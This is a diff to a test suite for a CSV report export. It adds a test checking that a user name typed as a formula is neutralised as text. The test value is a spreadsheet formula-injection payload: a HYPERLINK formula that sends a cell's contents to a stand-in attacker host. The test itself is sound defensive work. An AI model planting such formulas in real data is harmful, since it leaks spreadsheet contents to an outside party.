@@ -117,6 +117,14 @@ describe('CSV', () => {
     expect(body.toString()).not.toContain(SECRET);
   });
 
+  test('a name typed as a formula stays text in a spreadsheet', async () => {
+    t.stores.accounts.setName(t.teacherId, '=HYPERLINK("https://kwaad.example/?"&B2;"Klik")');
+    const res = await coordinatorA.get('/reports.csv');
+    const row = res.text.trim().split('\n')[1]!;
+    expect(row.startsWith('"\'=HYPERLINK(')).toBe(true);
+    expect(row).not.toMatch(/^"?=/);
+  });
+
   test('the CSV follows the same filter', async () => {
     const res = await coordinatorA.get('/reports.csv?status=afgerond');
     expect(res.text.trim().split('\n')).toHaveLength(1);
